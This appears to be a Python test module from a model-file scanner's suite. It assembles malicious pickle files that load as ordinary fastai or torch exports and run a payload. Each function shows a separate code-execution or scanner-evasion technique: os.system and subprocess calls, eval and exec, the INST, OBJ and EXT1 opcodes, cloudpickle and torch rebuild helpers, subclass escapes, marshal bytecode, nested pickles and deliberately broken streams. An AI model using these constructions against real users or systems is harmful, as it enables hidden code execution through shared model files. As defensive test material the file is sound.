"""Files that call what they please, in each way that pickle can be made to call something.

Each is a good export with a few opcodes before it: opened the usual way it works as ever, and its
payload has run.
"""

import marshal
import pickle

from tests.attacks.assemble import (
    OP,
    call,
    listed,
    mapped,
    method,
    name,
    number,
    raw,
    several,
    start,
    text,
    torch_legacy,
)
from tests.attacks.workshop import FASTAI, Workshop, attack

EVAL = name("builtins", "eval")
GETITEM = name("operator", "getitem")


@attack(fires=True, opens=True)
def reduce_to_a_shell(shop: Workshop) -> bytes:
    """REDUCE calls os.system: the oldest of all."""
    return shop.smuggle(call(name("os", "system"), text(shop.command)))


@attack(fires=True, opens=True)
def reduce_to_a_process(shop: Workshop) -> bytes:
    """REDUCE calls subprocess.check_call, with no shell that a scan could look for."""
    words = listed(text("touch"), text(str(shop.marker)))
    return shop.smuggle(call(name("subprocess", "check_call"), words))


@attack(fires=True, opens=True)
def reduce_to_eval(shop: Workshop) -> bytes:
    """eval needs no other name in the pickle at all."""
    return shop.smuggle(call(EVAL, text(shop.code)))


@attack(fires=True, opens=True)
def reduce_to_exec(shop: Workshop) -> bytes:
    """exec, by Python 2's name for builtins, which protocol 2 maps to today's."""
    return shop.smuggle(call(name("__builtin__", "exec"), text(shop.code)))


@attack(fires=True, opens=True)
def reduce_in_the_legacy_format(shop: Workshop) -> bytes:
    """The container of torch before 1.6 is five pickles: the payload is in the first."""
    head = start(2) + call(EVAL, text(shop.code)) + OP.POP
    return bytes(head + torch_legacy(shop.pickled)[2:])


@attack(fires=True, opens=True)
def reduce_after_the_learner(shop: Workshop) -> bytes:
    """The learner is whole; the call comes after it and is thrown away again."""
    return shop.zipped(shop.pickled[:-1] + call(EVAL, text(shop.code)) + OP.POP + OP.STOP)


@attack(fires=True, opens=True)
def inst_makes_a_process(shop: Workshop) -> bytes:
    """INST names and calls in one opcode, and is neither GLOBAL nor REDUCE."""
    words = listed(text("touch"), text(str(shop.marker)))
    return shop.smuggle(OP.MARK + words + OP.INST + b"subprocess\nPopen\n")


@attack(fires=True, opens=True)
def obj_makes_a_process(shop: Workshop) -> bytes:
    """OBJ calls what lies under the arguments."""
    words = listed(text("touch"), text(str(shop.marker)))
    return shop.smuggle(OP.MARK + name("subprocess", "Popen") + words + OP.OBJ)


@attack(fires=True, opens=True)
def extension_code(shop: Workshop) -> bytes:
    """EXT1 names a class by a number, which the pickle itself has registered before."""
    register = call(name("copyreg", "add_extension"), text("os"), text("system"), number(113))
    return shop.smuggle(register + OP.POP + call(OP.EXT1 + bytes([113]), text(shop.command)))


@attack(fires=True, opens=True)
def getattr_chain(shop: Workshop) -> bytes:
    """getattr on a module that cloudpickle fetches: the names in it are those of clean exports."""
    module = call(name("cloudpickle.cloudpickle", "subimport"), text("os"))
    return shop.smuggle(call(method(module, "system"), text(shop.command)))


@attack(fires=True, opens=True)
def globals_of_a_harmless_function(shop: Workshop) -> bytes:
    """Every function carries its module's names, and so builtins: `noop.__globals__`."""
    names = method(name("fastai.imports", "noop"), "__globals__")
    builtins = call(GETITEM, names, text("__builtins__"))
    return shop.smuggle(call(call(GETITEM, builtins, text("eval")), text(shop.code)))


@attack(fires=True, opens=True)
def subclasses_of_object(shop: Workshop) -> bytes:
    """From any class to all classes of the process, without one name that is suspicious."""
    code = "[c for c in object.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.{}"
    names = code.format(f"__globals__['system']({shop.command!r})")
    return shop.smuggle(call(name("__builtin__", "eval"), text(names)))


@attack(fires=True, opens=True)
def reduce_of_functools(shop: Workshop) -> bytes:
    """functools.reduce(getattr, …) walks to a name; a clean export holds both functions."""
    steps = several(name("os", "path"), text("os"), text("system"))
    walk = call(name("__builtin__", "reduce"), name("__builtin__", "getattr"), steps)
    return shop.smuggle(call(walk, text(shop.command)))


@attack(fires=True, opens=True)
def partial_of_functools(shop: Workshop) -> bytes:
    """A partial is made by one call and run by another; neither shows what and with what."""
    made = call(name("functools", "partial"), name("os", "system"), text(shop.command))
    return shop.smuggle(call(made))


@attack(fires=True, opens=True)
def mapped_over_a_list(shop: Workshop) -> bytes:
    """list(map(eval, […])): eval is never called by the pickle itself."""
    lazy = call(name("builtins", "map"), EVAL, listed(text(shop.code)))
    return shop.smuggle(call(name("builtins", "list"), lazy))


def bytecode(shop: Workshop) -> bytes:
    """Opcodes that give a code object."""
    code = compile(shop.code, "harmless", "exec")
    return call(name("marshal", "loads"), raw(marshal.dumps(code)))


@attack(fires=True, opens=True)
def code_from_marshal(shop: Workshop) -> bytes:
    """A function from bytecode: no text of a program is in the file."""
    return shop.smuggle(call(call(name("types", "FunctionType"), bytecode(shop), mapped())))


@attack(fires=True, opens=True)
def make_function_of_cloudpickle(shop: Workshop) -> bytes:
    """cloudpickle._make_function: how each clean export by cloudpickle carries its lambdas."""
    make = name("cloudpickle.cloudpickle", "_make_function")
    return shop.smuggle(call(call(make, bytecode(shop), mapped(), OP.NONE, OP.NONE, OP.NONE)))


@attack(fires=True, opens=True)
def builtin_type_of_cloudpickle(shop: Workshop) -> bytes:
    """cloudpickle._builtin_type("FunctionType") stands for types.FunctionType."""
    kind = call(name("cloudpickle.cloudpickle", "_builtin_type"), text("FunctionType"))
    return shop.smuggle(call(call(kind, bytecode(shop), mapped())))


@attack(fires=True, opens=True)
def lambda_by_value(shop: Workshop) -> bytes:
    """What cloudpickle writes of a lambda, all of it, and a call."""
    import cloudpickle

    command = shop.command
    function = cloudpickle.dumps(lambda: __import__("os").system(command), 2)
    return shop.smuggle(call(function[2:-1]))


@attack(fires=True, opens=True)
def rebuild_from_type(shop: Workshop) -> bytes:
    """torch's rebuilding of a tensor of a class of its own calls the function it is handed."""
    rebuild = name("torch._tensor", "_rebuild_from_type_v2")
    kind = name("torch", "Tensor")
    return shop.smuggle(call(rebuild, EVAL, kind, several(text(shop.code)), mapped()))


@attack(fires=True, opens=True)
def rebuild_of_fastai(shop: Workshop) -> bytes:
    """fastai's own, which each of its pictures in an export uses, does the same."""
    rebuild = name("fastai.torch_core", "_rebuild_from_type")
    kind = name("torch", "Tensor")
    return shop.smuggle(call(rebuild, EVAL, kind, several(text(shop.code)), mapped()))


@attack(fires=True, opens=True)
def pickle_in_a_pickle(shop: Workshop) -> bytes:
    """Only pickle.loads and bytes are to be seen; the payload is in the bytes."""
    inner = raw(call(EVAL, text(shop.code)) + OP.STOP)
    return shop.smuggle(call(name("_pickle", "loads"), inner))


@attack(fires=True, opens=True)
def torch_file_in_a_storage(shop: Workshop) -> bytes:
    """torch.storage._load_from_bytes, by which old storages are pickled, is a whole torch.load."""
    inner = raw(torch_legacy(start(2) + call(EVAL, text(shop.code)) + OP.STOP))
    return shop.smuggle(call(name("torch.storage", "_load_from_bytes"), inner))


@attack(fires=True, opens=True)
def array_in_a_bytes_object(shop: Workshop) -> bytes:
    """numpy.load of a file in memory unpickles an array of objects."""
    inner = pickle.dumps(None)[:-2] + call(EVAL, text(shop.code)) + OP.STOP
    file = call(name("io", "BytesIO"), raw(inner))
    return shop.smuggle(call(name("numpy", "load"), file, OP.NONE, OP.NEWTRUE))


@attack(fires=True, opens=True)
def setstate_by_build(shop: Workshop) -> bytes:
    """BUILD calls __setstate__: of a class made on the spot, eval."""
    kind = call(name("builtins", "type"), text("T"), several(), mapped(__setstate__=EVAL))
    return shop.smuggle(call(kind) + text(shop.code) + OP.BUILD)


@attack(fires=True)
def payload_then_damage(shop: Workshop) -> bytes:
    """The stream breaks after the payload: a scan ends in an error, pickle runs what came first."""
    return shop.zipped(start(2) + FASTAI + call(EVAL, text(shop.code)) + b"\xff\xff broken")
